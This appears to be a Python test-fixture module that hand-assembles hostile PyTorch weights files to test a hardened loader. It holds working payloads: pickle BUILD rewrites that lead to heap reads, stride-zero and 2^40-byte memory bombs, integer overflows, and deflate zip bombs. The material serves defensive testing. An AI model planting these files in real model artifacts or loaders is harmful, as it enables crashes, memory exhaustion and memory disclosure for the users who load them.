"""Crafted weights files, assembled opcode by opcode, for the tests that treat a ``.pth`` as hostile.

A real attacker writes pickle bytes by hand, not through ``pickle.dumps``: that is how a
BUILD can rewrite a tensor record after it was checked, or a BINBYTES8 can declare a
terabyte. So the state-dict pickle here is assembled from opcodes, and each attack is
a small variation of a well-formed file. Nothing here imports torch.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from dataclasses import dataclass
from pathlib import Path

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
SYSTEM_INFO = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def integer(value: int | bool) -> bytes:
    if value is True:
        return b"\x88"
    if value is False:
        return b"\x89"
    if 0 <= value < 256:
        return b"K" + bytes([value])
    if -(2**31) <= value < 2**31:
        return b"J" + struct.pack("<i", value)
    raw = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return (b"\x8a" + bytes([len(raw)]) if len(raw) < 256 else b"\x8b" + struct.pack("<I", len(raw))) + raw


def tuple_of(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def global_name(module: str, name: str) -> bytes:
    return b"c" + f"{module}\n{name}\n".encode()


def put(index: int) -> bytes:
    return b"r" + struct.pack("<I", index)


def get(index: int) -> bytes:
    return b"j" + struct.pack("<I", index)


@dataclass
class Tensor:
    """One tensor record: where it lies in which storage, as the file declares it (true or not)."""

    name: str
    storage: str
    offset: int | bool = 0
    shape: tuple = ()
    stride: tuple = ()
    storage_type: str = "FloatStorage"
    numel: int | None = None  # declared storage length; None: the real one
    memo: int | None = None  # remember the record under this memo index (for a later BUILD)
    storage_type_opcodes: bytes | None = None  # how the storage type is named; None: a GLOBAL


@dataclass
class Crafted:
    """A state dict to write: tensors, the storages' real contents, and raw opcodes to splice in."""

    tensors: list[Tensor]
    storages: dict[str, bytes]
    before_stop: bytes = b""  # opcodes run after the dict is complete, before STOP (the dict stays on the stack)
    prefix: bytes = b""  # opcodes right after PROTO
    protocol: int = 2
    ordered: bool = False  # an OrderedDict, as torch.save writes a module's state_dict (with BUILD for _metadata)

    def state_pickle(self) -> bytes:
        mapping = global_name("collections", "OrderedDict") + b")R" if self.ordered else b"}"
        body = [b"\x80" + bytes([self.protocol]), self.prefix, mapping, put(0), b"("]
        for tensor in self.tensors:
            numel = tensor.numel if tensor.numel is not None else len(self.storages[tensor.storage]) // 4
            storage_type = tensor.storage_type_opcodes or global_name("torch", tensor.storage_type)
            record = tuple_of(text("storage"), storage_type, text(tensor.storage),
                              text("cpu"), integer(numel), b"N")
            args = tuple_of(record + b"Q", integer(tensor.offset), tuple_of(*map(integer, tensor.shape)),
                            tuple_of(*map(integer, tensor.stride)), b"\x89",
                            global_name("collections", "OrderedDict") + b")R")
            body += [text(tensor.name), global_name("torch._utils", "_rebuild_tensor_v2"), args, b"R"]
            if tensor.memo is not None:
                body.append(put(tensor.memo))
        body += [b"u", self.before_stop, b"."]
        return b"".join(body)

    def legacy_bytes(self) -> bytes:
        head = b"".join(pickle.dumps(part, protocol=2) for part in (LEGACY_MAGIC, 1001, SYSTEM_INFO))
        keys = pickle.dumps(list(self.storages), protocol=2)
        data = b"".join(struct.pack("<q", len(raw) // 4) + raw for raw in self.storages.values())
        return head + self.state_pickle() + keys + data

    def write_legacy(self, path: Path) -> Path:
        path.write_bytes(self.legacy_bytes())
        return path

    def write_zip(self, path: Path) -> Path:
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("archive/data.pkl", self.state_pickle())
            archive.writestr("archive/byteorder", "little")
            for key, raw in self.storages.items():
                archive.writestr(f"archive/data/{key}", raw)
        return path


def floats(count: int) -> bytes:
    return struct.pack(f"<{count}f", *range(count))


def one_tensor(**changes: object) -> Crafted:
    """A four-float tensor named like a real one; ``changes`` override the record's fields."""
    tensor = Tensor("fc.bias", "0", shape=(4,), stride=(1,))
    for key, value in changes.items():
        setattr(tensor, key, value)
    return Crafted([tensor], {"0": floats(4)})


def build(state: bytes) -> bytes:
    """BUILD with ``state`` on whatever is on top of the stack, then drop the result."""
    return state + b"b0"


ATTACKS: dict[str, Crafted] = {
    # Memory safety: the record is checked when made, then BUILD rewrites its stride (heap read / segfault).
    "build_rewrites_stride": Crafted([Tensor("fc.bias", "0", shape=(4,), stride=(1,), memo=7)], {"0": floats(4)}),
    "build_reads_heap": Crafted([Tensor("fc.bias", "0", shape=(4,), stride=(1,), memo=7)], {"0": floats(4)}),
    "build_rewrites_storage_dtype": Crafted(
        [Tensor("fc.bias", "0", shape=(4,), stride=(1,), storage_type_opcodes=get(9))], {"0": floats(4)}
    ),
    "build_on_rebuild_function": Crafted([Tensor("fc.bias", "0", shape=(4,), stride=(1,))], {"0": floats(4)}),
    # Memory bombs: a 1-float storage seen through stride 0 as billions of floats.
    "stride_zero_huge_shape": one_tensor(name="bomb", shape=(1 << 15, 1 << 14), stride=(0, 0)),
    "binbytes8_2_40": Crafted([], {}, prefix=b"\x8e" + struct.pack("<Q", 1 << 40) + b"0"),
    "frame_2_40": Crafted([], {}, protocol=4, prefix=b"\x95" + struct.pack("<Q", 1 << 40)),
    "memo_index_2_32": Crafted([], {}, prefix=b"N" + put(0xFFFFFFFE) + b"0"),
    # Values that overflow a C integer or are not integers at all.
    "numel_10_400": one_tensor(shape=(10**400,), stride=(0,)),
    "stride_2_70": one_tensor(shape=(1,), stride=(1 << 70,)),
    "offset_negative": one_tensor(offset=-4, shape=(4,), stride=(1,)),
    "stride_negative": one_tensor(offset=3, shape=(4,), stride=(-1,)),
    "bool_in_shape": one_tensor(shape=(True, 4), stride=(4, 1)),
    "array_too_big": one_tensor(shape=(1 << 31, 1 << 31, 1 << 31), stride=(0, 0, 0)),
    "storage_numel_10_400": one_tensor(numel=10**400),
    "header_too_long": Crafted([], {}, prefix=text("x" * (1 << 20)) + b"0"),
}
# The BUILD attacks need their second half: the rewrite after the dict is complete.
ATTACKS["build_rewrites_stride"].before_stop = build(
    get(7) + b"}" + text("stride") + tuple_of(integer(-(1 << 40))) + b"s"
)
# Stride -1 from offset 0: the three floats before the storage's first byte, i.e. whatever the heap holds there.
ATTACKS["build_reads_heap"].before_stop = build(get(7) + b"}" + text("stride") + tuple_of(integer(-1)) + b"s")
ATTACKS["build_rewrites_storage_dtype"].prefix = build(
    global_name("torch", "FloatStorage") + put(9) + b"}" + text("dtype") + text("rewritten") + b"s"
)
ATTACKS["build_on_rebuild_function"].prefix = build(
    global_name("torch._utils", "_rebuild_tensor_v2") + tuple_of(b"N", b"}" + text("__defaults__") + b")s")
)


def zip_bomb(path: Path) -> Path:
    """The zip format with the stride-0 trick: 1.6 GB from a few hundred bytes of storage."""
    return one_tensor(name="bomb", shape=(20_000, 20_000), stride=(0, 0)).write_zip(path)


def metadata_build(state: dict) -> bytes:
    """BUILD on the state dict (still on the stack) with ``state``, as torch.save writes ``_metadata``."""
    stream = io.BytesIO()
    pickler = pickle.Pickler(stream, protocol=2)
    pickler.fast = True  # no memo entries: they would overwrite the indices this module uses
    pickler.dump(state)
    return stream.getvalue()[2:-1] + b"b"


def zip_deflate_bomb(path: Path, floats_count: int = 50_000_000) -> Path:
    """200 MB of zero floats deflated into a few hundred kilobytes: the entry's size is true, the file is small."""
    crafted = one_tensor(name="bomb", shape=(floats_count,), stride=(1,), numel=floats_count)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", crafted.state_pickle())
        with archive.open("archive/data/0", "w") as entry:
            zeros = bytes(4 << 20)
            for _ in range(floats_count * 4 // len(zeros)):
                entry.write(zeros)
    return path
